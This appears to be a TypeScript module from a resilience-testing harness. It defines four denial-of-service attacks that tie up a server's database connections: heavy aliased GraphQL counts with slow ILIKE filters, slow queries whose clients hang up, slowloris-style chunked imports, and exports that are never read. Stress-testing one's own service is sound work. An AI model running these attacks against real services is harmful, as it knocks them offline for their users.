import { repeat, rest } from './attack.ts';
import type { Attack } from './attack.ts';
import { headOf, held, open, readResponse, send } from './connection.ts';

const ALIASES = 20;
const PATTERNS = 90;
const SLOW_QUERIES = 10;
const HANG_UP_MS = 400;
const IMPORTS = 10;
const TRICKLE_BYTES = 1_331; // 1.3 KiB
const EXPORTS = 12;

/** No record matches, so PostgreSQL compares every record with every pattern. */
const SLOW_FILTER = {
  _or: Array.from({ length: PATTERNS }, (_, number) => ({ text: { _ilike: `%nothing ${number} matches%` } })),
};

const COUNTS = JSON.stringify({
  query: `query ($filter: JSON) { ${Array.from({ length: ALIASES }, (_, number) => count(`a${number}`)).join(' ')} }`,
  variables: { filter: SLOW_FILTER },
});

const QUERY = JSON.stringify({ filter: SLOW_FILTER, limit: 1 });

/** Attacks that take the connections to the database. */
export const databaseConnections: Attack[] = [
  {
    id: '1a',
    title: 'GraphQL requests that count 20 times in 150,000 records, over 4 connections',
    run: (target, signal) => repeat(4, signal, () => send(target, { path: '/graphql', body: COUNTS, signal })),
  },
  {
    id: '1b',
    title: 'ten slow queries whose clients hang up after 0.4 s, repeated',
    run: (target, signal) =>
      repeat(SLOW_QUERIES, signal, () => {
        const hangUp = AbortSignal.any([signal, AbortSignal.timeout(HANG_UP_MS)]);
        return send(target, { path: '/api/v1/collections/items/query', body: QUERY, signal: hangUp });
      }),
  },
  {
    id: '1c',
    title: 'ten atomic imports that send 1.3 KiB a second',
    run: (target, signal) =>
      repeat(IMPORTS, signal, async () => {
        const socket = await open(target);
        const type = { 'content-type': 'application/x-ndjson', 'transfer-encoding': 'chunked' };
        readResponse(socket).write(headOf(target, 'POST /api/v1/collections/imported/import?atomic=true', type));
        const line = `${JSON.stringify({ text: 'x'.repeat(TRICKLE_BYTES - 12) })}\n`;
        const timer = setInterval(() => socket.write(`${line.length.toString(16)}\r\n${line}\r\n`), 1_000);
        await held(socket, signal);
        clearInterval(timer);
      }),
  },
  {
    id: '1d',
    title: 'twelve exports whose clients read nothing',
    run: (target, signal) =>
      repeat(EXPORTS, signal, async () => {
        const socket = await open(target);
        socket.pause().write(headOf(target, 'GET /api/v1/collections/items/export'));
        await Promise.race([held(socket, signal), rest(60_000, signal)]);
        socket.destroy();
      }),
  },
];

function count(alias: string): string {
  return `${alias}: records(collection: "items", first: 1, filter: $filter) { totalCount }`;
}
